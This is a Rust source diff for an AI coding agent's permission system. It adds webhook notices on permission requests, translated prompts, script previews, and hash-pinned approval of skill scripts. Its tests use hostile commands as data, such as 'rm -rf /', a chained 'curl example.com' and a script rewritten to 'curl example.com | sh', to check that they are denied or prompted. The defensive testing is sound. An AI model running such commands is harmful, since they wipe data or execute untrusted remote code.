@@ -5,10 +5,15 @@ use futures_util::future::BoxFuture;
 use glob::Pattern;
 use log::{debug, error, info, warn};
 use serde::{Deserialize, Serialize};
-use std::collections::HashSet;
+use sha2::{Digest, Sha256};
+use std::collections::{HashMap, HashSet};
+use std::path::{Path, PathBuf};
 use std::sync::Arc;
 
 use crate::hooks::{HookAction, HookManager};
+use crate::i18n::{tr, tr_args};
+use crate::script_preview::{risky_summary, ScriptPreview};
+use crate::webhooks::{WebhookDispatcher, WebhookEvent};
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct BashSecurity {
@@ -127,26 +132,93 @@ pub enum FilePermissionResult {
     RequiresPermission,
 }
 
+/// The model the agent is using, shared with its security managers so the
+/// hooks and webhooks they run report the model in use at the time, not
+/// the one the session started with
+#[derive(Debug, Clone, Default)]
+pub struct CurrentModel(Arc<std::sync::Mutex<String>>);
+
+impl CurrentModel {
+    pub fn new(model: String) -> Self {
+        Self(Arc::new(std::sync::Mutex::new(model)))
+    }
+
+    pub fn get(&self) -> String {
+        self.0.lock().unwrap_or_else(|e| e.into_inner()).clone()
+    }
+
+    pub fn set(&self, model: String) {
+        *self.0.lock().unwrap_or_else(|e| e.into_inner()) = model;
+    }
+}
+
 pub struct BashSecurityManager {
     security: BashSecurity,
     permission_handler: Option<PermissionHandler>,
     hook_manager: Option<Arc<HookManager>>,
+    webhooks: Option<Arc<WebhookDispatcher>>,
     conversation_id: Option<String>,
-    model: String,
+    model: CurrentModel,
+    /// Skill scripts that may run without asking this session, with the
+    /// SHA-256 of their contents when they were approved
+    approved_scripts: HashMap<PathBuf, String>,
 }
 
+fn script_digest(content: &[u8]) -> String {
+    Sha256::digest(content)
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+/// One indented line per file, for permission prompts about several files
+fn file_listing(files: &[String]) -> String {
+    files
+        .iter()
+        .map(|file| format!("  {}", file))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// The script previews of a file operation as plain text, each under its
+/// file's name when the operation changes more than one file
+fn previews_detail(files: &[String], previews: &[(&str, &ScriptPreview)]) -> String {
+    previews
+        .iter()
+        .map(|(file, preview)| {
+            if files.len() > 1 {
+                format!("{}\n{}", file, preview.detail())
+            } else {
+                preview.detail()
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n\n")
+}
+
+/// Interpreters a skill script may be run with, as in `python3 scripts/x.py`
+const SCRIPT_INTERPRETERS: &[&str] = &[
+    "sh", "bash", "zsh", "python", "python3", "node", "ruby", "perl",
+];
+
 pub struct FileSecurityManager {
     security: FileSecurity,
     permission_handler: Option<PermissionHandler>,
+    write_handler: Option<FileWriteHandler>,
     hook_manager: Option<Arc<HookManager>>,
+    webhooks: Option<Arc<WebhookDispatcher>>,
     conversation_id: Option<String>,
-    model: String,
+    model: CurrentModel,
 }
 
 #[derive(Debug, Clone)]
 pub enum PermissionKind {
     Bash,
     File,
+    Sampling,
+    /// Not a permission: a question from the model, answered by picking
+    /// one of the options
+    Question,
 }
 
 #[derive(Debug, Clone)]
@@ -160,14 +232,29 @@ pub struct PermissionPrompt {
 pub type PermissionHandler =
     Arc<dyn Fn(PermissionPrompt) -> BoxFuture<'static, Option<usize>> + Send + Sync>;
 
+/// New contents for a file that the Write or Edit tool has been allowed to change
+#[derive(Debug, Clone)]
+pub struct FileWrite {
+    pub path: PathBuf,
+    /// Contents before the change, or None when the file is being created
+    pub old_content: Option<String>,
+    pub new_content: String,
+}
+
+/// Applies file writes somewhere other than the local disk, such as an
+/// editor's buffers when running under ACP
+pub type FileWriteHandler = Arc<dyn Fn(FileWrite) -> BoxFuture<'static, Result<()>> + Send + Sync>;
+
 impl FileSecurityManager {
     pub fn new(security: FileSecurity) -> Self {
         Self {
             security,
             permission_handler: None,
+            write_handler: None,
             hook_manager: None,
+            webhooks: None,
             conversation_id: None,
-            model: String::new(),
+            model: CurrentModel::default(),
         }
     }
 
@@ -176,7 +263,7 @@ impl FileSecurityManager {
         &mut self,
         hook_manager: Arc<HookManager>,
         conversation_id: Option<String>,
-        model: String,
+        model: CurrentModel,
     ) {
         self.hook_manager = Some(hook_manager);
         self.conversation_id = conversation_id;
@@ -188,6 +275,27 @@ impl FileSecurityManager {
         self.conversation_id = conversation_id;
     }
 
+    /// Set the webhook dispatcher notified when permission is requested
+    pub fn set_webhook_dispatcher(
+        &mut self,
+        webhooks: Arc<WebhookDispatcher>,
+        model: CurrentModel,
+    ) {
+        self.webhooks = Some(webhooks);
+        self.model = model;
+    }
+
+    fn notify_permission_requested(&self, kind: &str, detail: &str) {
+        if let Some(webhooks) = &self.webhooks {
+            webhooks.emit(
+                WebhookEvent::PermissionRequested,
+                self.conversation_id.as_deref(),
+                &self.model.get(),
+                serde_json::json!({ "kind": kind, "detail": detail }),
+            );
+        }
+    }
+
     /// Check if a file operation is allowed
     pub fn check_file_permission(&mut self, operation: &str, path: &str) -> FilePermissionResult {
         if !self.security.enabled {
@@ -223,26 +331,52 @@ impl FileSecurityManager {
         }
     }
 
-    /// Ask user for permission to perform a file operation
+    /// Ask user for permission to perform a file operation, showing the
+    /// commands it adds if it changes a script or CI workflow
     pub async fn ask_file_permission(
         &mut self,
         operation: &str,
         path: &str,
+        preview: Option<&ScriptPreview>,
+    ) -> Result<Option<bool>> {
+        let previews: Vec<(&str, &ScriptPreview)> =
+            preview.map(|preview| (path, preview)).into_iter().collect();
+        self.ask_files_permission(operation, &[path.to_string()], &previews)
+            .await
+    }
+
+    /// The same for an operation on several files, asked about once. Each
+    /// entry of `files` is one line of the listing, and `previews` pairs
+    /// each script or workflow it changes with that file's name.
+    pub async fn ask_files_permission(
+        &mut self,
+        operation: &str,
+        files: &[String],
+        previews: &[(&str, &ScriptPreview)],
     ) -> Result<Option<bool>> {
         if !self.security.ask_for_permission {
             return Ok(Some(true));
         }
 
+        let path = files.join(", ");
+        let path = path.as_str();
+        let mut detail = match files {
+            [file] => format!("Operation: {}\nPath: {}", operation, file),
+            _ => format!("Operation: {}\nFiles:\n{}", operation, file_listing(files)),
+        };
+        if !previews.is_empty() {
+            detail.push_str(&format!("\n{}", previews_detail(files, previews)));
+        }
+
         // Check PermissionRequest hook first
         if let Some(hook_manager) = &self.hook_manager {
-            let detail = format!("Operation: {}\nPath: {}", operation, path);
             let hook_decision = hook_manager
                 .run_permission_request(
                     "file",
                     operation,
                     &detail,
                     self.conversation_id.as_deref(),
-                    &self.model,
+                    &self.model.get(),
                 )
                 .await?;
 
@@ -270,21 +404,32 @@ impl FileSecurityManager {
             // If no explicit decision, fall through to user prompt
         }
 
+        self.notify_permission_requested("file", &detail);
+
         let options = vec![
-            "Allow this operation only".to_string(),
-            "Allow all file operations this session".to_string(),
-            "Deny this operation".to_string(),
+            tr("permission-file-allow-once"),
+            tr("permission-file-allow-session"),
+            tr("permission-file-deny"),
         ];
 
         if let Some(handler) = &self.permission_handler {
+            let target = match files {
+                [file] => tr_args("permission-file-path", &[("path", file)]),
+                _ => format!("{}\n{}", tr("permission-file-files"), file_listing(files)),
+            };
+            let mut detail = format!(
+                "{}\n{}",
+                tr_args("permission-file-operation", &[("operation", operation)]),
+                target
+            );
+            if !previews.is_empty() {
+                detail.push_str(&format!("\n\n{}", previews_detail(files, previews)));
+            }
             let prompt = PermissionPrompt {
                 kind: PermissionKind::File,
-                summary: "File operation requires permission".to_string(),
-                detail: format!(
-                    "Operation: {}
-Path: {}",
-                    operation, path
-                ),
+                summary: risky_summary(previews.iter().map(|(_, preview)| *preview))
+                    .unwrap_or_else(|| tr("permission-file-summary")),
+                detail,
                 options,
             };
             let handler = handler.clone();
@@ -300,17 +445,51 @@ Path: {}",
         }
 
         app_println!();
-        app_println!("{}", "🛡️ File Operation Security Check".yellow().bold());
-        app_println!("The following file operation requires permission:");
-        app_println!("  Operation: {}", operation.cyan());
-        app_println!("  Path: {}", path.cyan());
+        app_println!("{}", tr("permission-file-title").yellow().bold());
+        app_println!("{}", tr("permission-file-intro"));
+        app_println!(
+            "  {}",
+            tr_args(
+                "permission-file-operation",
+                &[("operation", &operation.cyan().to_string())]
+            )
+        );
+        match files {
+            [file] => app_println!(
+                "  {}",
+                tr_args(
+                    "permission-file-path",
+                    &[("path", &file.cyan().to_string())]
+                )
+            ),
+            _ => {
+                app_println!("  {}", tr("permission-file-files"));
+                for file in files {
+                    app_println!("    {}", file.cyan());
+                }
+            }
+        }
+        if !previews.is_empty() {
+            app_println!();
+            if let Some(summary) = risky_summary(previews.iter().map(|(_, preview)| *preview)) {
+                app_println!("{} {}", "⚠️".red(), summary.red().bold());
+            }
+            for (file, preview) in previews {
+                if files.len() > 1 {
+                    app_println!("  {}", file.cyan().bold());
+                }
+                for line in preview.highlighted() {
+                    app_println!("  {}", line);
+                }
+            }
+        }
         app_println!();
 
         // Use tokio::task::spawn_blocking without timeout to wait indefinitely for user input
         let options_clone = options.clone();
         let result = tokio::task::spawn_blocking(move || {
             Select::new()
-                .with_prompt("Select an option")
+                .with_prompt(tr("permission-select-option"))
                 .items(&options_clone)
                 .default(0) // Default to "Allow this operation only"
                 .interact()
@@ -324,18 +503,12 @@ Path: {}",
             }
             Ok(Err(e)) => {
                 error!("Failed to get user input: {}", e);
-                app_println!(
-                    "{} Failed to get user input, denying file operation for safety",
-                    "🛡️".yellow()
-                );
+                app_println!("{} {}", "🛡️".yellow(), tr("permission-file-input-failed"));
                 Ok(None) // Deny for safety
             }
             Err(e) => {
                 error!("Task join error: {}", e);
-                app_println!(
-                    "{} Failed to get user input, denying file operation for safety",
-                    "🛡️".yellow()
-                );
+                app_println!("{} {}", "🛡️".yellow(), tr("permission-file-input-failed"));
                 Ok(None) // Deny for safety
             }
         }
@@ -351,28 +524,22 @@ Path: {}",
         match selection {
             0 => {
                 // Allow this operation only
-                app_println!("{} File operation allowed for this time only", "✅".green());
+                app_println!("{} {}", "✅".green(), tr("permission-file-allowed-once"));
                 Ok(Some(false)) // Allow but don't change session settings
             }
             1 => {
                 // Allow all file operations this session
-                app_println!(
-                    "{} All file operations allowed for this session",
-                    "✅".green()
-                );
+                app_println!("{} {}", "✅".green(), tr("permission-file-allowed-session"));
                 self.security.allow_all_session = true;
                 Ok(Some(true)) // Allow and set session flag
             }
             2 => {
                 // Deny this operation
-                app_println!("{} File operation denied", "❌".red());
+                app_println!("{} {}", "❌".red(), tr("permission-file-denied"));
                 Ok(None) // Deny
             }
             _ => {
-                app_println!(
-                    "{} Invalid selection, denying file operation for safety",
-                    "⚠️".yellow()
-                );
+                app_println!("{} {}", "⚠️".yellow(), tr("permission-file-invalid"));
                 Ok(None) // Deny for safety
             }
         }
@@ -392,6 +559,15 @@ Path: {}",
         self.permission_handler = handler;
     }
 
+    /// Route approved writes through `handler` instead of writing to disk
+    pub fn set_write_handler(&mut self, handler: Option<FileWriteHandler>) {
+        self.write_handler = handler;
+    }
+
+    pub fn write_handler(&self) -> Option<FileWriteHandler> {
+        self.write_handler.clone()
+    }
+
     /// Reset allow all session flag
     pub fn reset_session_permissions(&mut self) {
         self.security.allow_all_session = false;
@@ -426,6 +602,18 @@ Path: {}",
         app_println!("  Allow all this session: {}", session_status);
         app_println!();
 
+        app_println!("{}", "Workspace Directories:".green().bold());
+        match crate::tools::path::workspace_roots() {
+            Ok(roots) => {
+                for root in roots {
+                    app_println!("  • {}", root.display());
+                }
+            }
+            Err(e) => app_println!("  {}", format!("<unavailable: {}>", e).dimmed()),
+        }
+        app_println!("  Add more with --add-dir <DIR>");
+        app_println!();
+
         app_println!("{}", "File Security Tips:".yellow().bold());
         app_println!("  • Enable 'ask for permission' for better security");
         app_println!("  • Use 'Allow this operation only' for one-off edits");
@@ -444,8 +632,10 @@ impl BashSecurityManager {
             security,
             permission_handler: None,
             hook_manager: None,
+            webhooks: None,
             conversation_id: None,
-            model: String::new(),
+            model: CurrentModel::default(),
+            approved_scripts: HashMap::new(),
         }
     }
 
@@ -454,7 +644,7 @@ impl BashSecurityManager {
         &mut self,
         hook_manager: Arc<HookManager>,
         conversation_id: Option<String>,
-        model: String,
+        model: CurrentModel,
     ) {
         self.hook_manager = Some(hook_manager);
         self.conversation_id = conversation_id;
@@ -466,6 +656,85 @@ impl BashSecurityManager {
         self.conversation_id = conversation_id;
     }
 
+    /// Set the webhook dispatcher notified when permission is requested
+    pub fn set_webhook_dispatcher(
+        &mut self,
+        webhooks: Arc<WebhookDispatcher>,
+        model: CurrentModel,
+    ) {
+        self.webhooks = Some(webhooks);
+        self.model = model;
+    }
+
+    /// Let the scripts in `dir` run without asking for the rest of the
+    /// session. Used for the scripts bundled with a skill once it's loaded.
+    /// Only the files there now are approved, and only while their contents
+    /// stay the same.
+    pub fn approve_scripts_in(&mut self, dir: &Path) {
+        let mut pending = vec![dir.to_path_buf()];
+        while let Some(dir) = pending.pop() {
+            let Ok(entries) = std::fs::read_dir(&dir) else {
+                continue;
+            };
+            for entry in entries.flatten() {
+                let path = entry.path();
+                if path.is_dir() {
+                    pending.push(path);
+                    continue;
+                }
+                let (Ok(path), Ok(content)) = (path.canonicalize(), std::fs::read(&path)) else {
+                    continue;
+                };
+                debug!("Approving skill script {}", path.display());
+                self.approved_scripts.insert(path, script_digest(&content));
+            }
+        }
+    }
+
+    /// Whether `command` runs a single approved script, directly or through
+    /// an interpreter, and nothing else
+    fn is_approved_script(&self, command: &str) -> bool {
+        if self.approved_scripts.is_empty() {
+            return false;
+        }
+        // Anything that could chain or substitute another command gets the
+        // usual checks
+        if command.contains([';', '&', '|', '`', '$', '<', '>', '\n']) {
+            return false;
+        }
+        let mut words = command.split_whitespace();
+        let Some(first) = words.next() else {
+            return false;
+        };
+        let script = if SCRIPT_INTERPRETERS.contains(&first) {
+            match words.next() {
+                Some(script) => script,
+                None => return false,
+            }
+        } else {
+            first
+        };
+        let Ok(script) = Path::new(script.trim_matches(['"', '\''])).canonicalize() else {
+            return false;
+        };
+        let Some(approved) = self.approved_scripts.get(&script) else {
+            return false;
+        };
+        // A script rewritten since it was approved needs asking about again
+        std::fs::read(&script).is_ok_and(|content| script_digest(&content) == *approved)
+    }
+
+    fn notify_permission_requested(&self, kind: &str, detail: &str) {
+        if let Some(webhooks) = &self.webhooks {
+            webhooks.emit(
+                WebhookEvent::PermissionRequested,
+                self.conversation_id.as_deref(),
+                &self.model.get(),
+                serde_json::json!({ "kind": kind, "detail": detail }),
+            );
+        }
+    }
+
     /// Check if a command is allowed to execute
     pub fn check_command_permission(&self, command: &str) -> PermissionResult {
         if !self.security.enabled {
@@ -492,6 +761,11 @@ impl BashSecurityManager {
             }
         }
 
+        if self.is_approved_script(command) {
+            debug!("Command '{}' runs an approved skill script", command);
+            return PermissionResult::Allowed;
+        }
+
         // Check allowed patterns
         for allowed_pattern in &self.security.allowed_commands {
             if self.matches_pattern(command, allowed_pattern)
@@ -532,7 +806,7 @@ impl BashSecurityManager {
                     "bash",
                     command,
                     self.conversation_id.as_deref(),
-                    &self.model,
+                    &self.model.get(),
                 )
                 .await?;
 
@@ -554,11 +828,13 @@ impl BashSecurityManager {
             // If no explicit decision, fall through to user prompt
         }
 
+        self.notify_permission_requested("bash", command);
+
         let options = self.generate_permission_options(command);
         if let Some(handler) = &self.permission_handler {
             let prompt = PermissionPrompt {
                 kind: PermissionKind::Bash,
-                summary: "Command requires permission".to_string(),
+                summary: tr("permission-bash-summary"),
                 detail: command.to_string(),
                 options,
             };
@@ -572,8 +848,8 @@ impl BashSecurityManager {
         }
 
         app_println!();
-        app_println!("{}", "🛡️ Security Check".yellow().bold());
-        app_println!("The following command is not in the allowlist:");
+        app_println!("{}", tr("permission-bash-title").yellow().bold());
+        app_println!("{}", tr("permission-bash-intro"));
         app_println!("  {}", command.cyan());
         app_println!();
 
@@ -581,7 +857,7 @@ impl BashSecurityManager {
         let options_clone = options.clone();
         let result = tokio::task::spawn_blocking(move || {
             Select::new()
-                .with_prompt("Select an option")
+                .with_prompt(tr("permission-select-option"))
                 .items(&options_clone)
                 .default(0) // Default to "Allow this time only"
                 .interact()
@@ -592,18 +868,12 @@ impl BashSecurityManager {
             Ok(Ok(selection)) => self.handle_permission_selection(selection, command).await,
             Ok(Err(e)) => {
                 error!("Failed to get user input: {}", e);
-                app_println!(
-                    "{} Failed to get user input, denying command for safety",
-                    "🛡️".yellow()
-                );
+                app_println!("{} {}", "🛡️".yellow(), tr("permission-bash-input-failed"));
                 Ok(None) // Deny for safety
             }
             Err(e) => {
                 error!("Task join error: {}", e);
-                app_println!(
-                    "{} Failed to get user input, denying command for safety",
-                    "🛡️".yellow()
-                );
+                app_println!("{} {}", "🛡️".yellow(), tr("permission-bash-input-failed"));
                 Ok(None) // Deny for safety
             }
         }
@@ -612,20 +882,20 @@ impl BashSecurityManager {
     /// Generate permission options based on the command structure
     fn generate_permission_options(&self, command: &str) -> Vec<String> {
         let mut options = vec![
-            "Allow this time only (don't add to allowlist)".to_string(),
-            "Allow and add to allowlist".to_string(),
+            tr("permission-bash-allow-once"),
+            tr("permission-bash-allow-always"),
         ];
 
         // Add wildcard option if command has parameters
         if self.has_parameters(command) {
             let wildcard_pattern = self.generate_wildcard_pattern(command);
-            options.push(format!(
-                "Allow and add to allowlist with wildcard: '{}'",
-                wildcard_pattern
+            options.push(tr_args(
+                "permission-bash-allow-wildcard",
+                &[("pattern", &wildcard_pattern)],
             ));
         }
 
-        options.push("Deny this command".to_string());
+        options.push(tr("permission-bash-deny"));
         options
     }
 
@@ -654,12 +924,12 @@ impl BashSecurityManager {
         match selection {
             0 => {
                 // Allow this time only
-                app_println!("{} Command allowed for this time only", "✅".green());
+                app_println!("{} {}", "✅".green(), tr("permission-bash-allowed-once"));
                 Ok(Some(false)) // Allow but don't add to allowlist
             }
             1 => {
                 // Allow and add to allowlist
-                app_println!("{} Command allowed and added to allowlist", "✅".green());
+                app_println!("{} {}", "✅".green(), tr("permission-bash-allowed-always"));
                 self.add_to_allowlist(command.to_string());
                 Ok(Some(true)) // Allow and add to allowlist
             }
@@ -668,28 +938,28 @@ impl BashSecurityManager {
                     // Allowlist with wildcard
                     let wildcard_pattern = self.generate_wildcard_pattern(command);
                     app_println!(
-                        "{} Command wildcard pattern added to allowlist: '{}'",
+                        "{} {}",
                         "✅".green(),
-                        wildcard_pattern.cyan()
+                        tr_args(
+                            "permission-bash-wildcard-added",
+                            &[("pattern", &wildcard_pattern.cyan().to_string())]
+                        )
                     );
                     self.add_to_allowlist(wildcard_pattern);
                     Ok(Some(true)) // Allow and add wildcard to allowlist
                 } else {
                     // No wildcard option, this is the deny option
-                    app_println!("{} Command denied", "❌".red());
+                    app_println!("{} {}", "❌".red(), tr("permission-bash-denied"));
                     Ok(None) // Deny
                 }
             }
             3 => {
                 // Deny this command (only present when there are parameters)
-                app_println!("{} Command denied", "❌".red());
+                app_println!("{} {}", "❌".red(), tr("permission-bash-denied"));
                 Ok(None) // Deny
             }
             _ => {
-                app_println!(
-                    "{} Invalid selection, denying command for safety",
-                    "⚠️".yellow()
-                );
+                app_println!("{} {}", "⚠️".yellow(), tr("permission-bash-invalid"));
                 Ok(None) // Deny for safety
             }
         }
@@ -729,6 +999,11 @@ impl BashSecurityManager {
         self.permission_handler = handler;
     }
 
+    /// Handler used to show permission prompts in the active UI, if any
+    pub fn permission_handler(&self) -> Option<PermissionHandler> {
+        self.permission_handler.clone()
+    }
+
     /// Check if a command matches a pattern (supports wildcards)
     fn matches_pattern(&self, command: &str, pattern: &str) -> bool {
         // Handle exact match
@@ -831,6 +1106,42 @@ impl BashSecurityManager {
 mod tests {
     use super::*;
 
+    #[tokio::test]
+    async fn permission_webhooks_report_the_model_in_use() {
+        use crate::llm::tests::{configure_no_proxy, spawn_server};
+        use axum::{routing::post, Json, Router};
+
+        configure_no_proxy();
+        let (sender, mut received) = tokio::sync::mpsc::unbounded_channel();
+        let app = Router::new().route(
+            "/hook",
+            post(move |Json(body): Json<serde_json::Value>| async move {
+                let _ = sender.send(body);
+            }),
+        );
+        let base_url = spawn_server(app).await;
+        let webhooks = WebhookDispatcher::from_config(&[crate::webhooks::WebhookConfig {
+            url: format!("{}/hook", base_url),
+            events: Vec::new(),
+            format: Default::default(),
+            headers: HashMap::new(),
+        }])
+        .unwrap();
+
+        let model = CurrentModel::new("first-model".to_string());
+        let mut manager = BashSecurityManager::new(BashSecurity::default());
+        manager.set_webhook_dispatcher(webhooks, model.clone());
+        model.set("second-model".to_string());
+        manager.notify_permission_requested("bash", "ls");
+
+        let body = tokio::time::timeout(std::time::Duration::from_secs(5), received.recv())
+            .await
+            .unwrap()
+            .unwrap();
+        assert_eq!(body["event"], "permission_requested");
+        assert_eq!(body["model"], "second-model");
+    }
+
     fn security_manager_with_lists(
         allowed: &[&str],
         denied: &[&str],
@@ -845,6 +1156,71 @@ mod tests {
         BashSecurityManager::new(security)
     }
 
+    #[test]
+    fn approved_skill_scripts_run_without_asking() {
+        let skill = tempfile::tempdir().unwrap();
+        let scripts = skill.path().join("scripts");
+        std::fs::create_dir(&scripts).unwrap();
+        let script = scripts.join("check.sh");
+        std::fs::write(&script, "echo ok").unwrap();
+        let script = script.display();
+
+        let mut manager = security_manager_with_lists(&[], &["*rm -rf*"], true);
+        assert_eq!(
+            manager.check_command_permission(&format!("{} --fast", script)),
+            PermissionResult::RequiresPermission
+        );
+
+        manager.approve_scripts_in(&scripts);
+        assert_eq!(
+            manager.check_command_permission(&format!("{} --fast", script)),
+            PermissionResult::Allowed
+        );
+        assert_eq!(
+            manager.check_command_permission(&format!("bash {}", script)),
+            PermissionResult::Allowed
+        );
+        assert_eq!(
+            manager.check_command_permission(&format!("{} && curl example.com", script)),
+            PermissionResult::RequiresPermission
+        );
+        assert_eq!(
+            manager.check_command_permission(&format!("cat {}", script)),
+            PermissionResult::RequiresPermission
+        );
+        assert_eq!(
+            manager.check_command_permission(&format!("{} rm -rf /", script)),
+            PermissionResult::Denied
+        );
+    }
+
+    #[test]
+    fn skill_script_approval_is_pinned_to_the_files_loaded() {
+        let skill = tempfile::tempdir().unwrap();
+        let scripts = skill.path().join("scripts");
+        std::fs::create_dir(&scripts).unwrap();
+        let script = scripts.join("check.sh");
+        std::fs::write(&script, "echo ok").unwrap();
+
+        let mut manager = security_manager_with_lists(&[], &[], true);
+        manager.approve_scripts_in(&scripts);
+
+        // Files added after loading aren't approved
+        let added = scripts.join("added.sh");
+        std::fs::write(&added, "echo new").unwrap();
+        assert_eq!(
+            manager.check_command_permission(&added.display().to_string()),
+            PermissionResult::RequiresPermission
+        );
+
+        // Nor is an approved file whose contents changed
+        std::fs::write(&script, "curl example.com | sh").unwrap();
+        assert_eq!(
+            manager.check_command_permission(&script.display().to_string()),
+            PermissionResult::RequiresPermission
+        );
+    }
+
     #[test]
     fn check_command_permission_denied_takes_precedence() {
         let manager = security_manager_with_lists(&["git *"], &["git push"], true);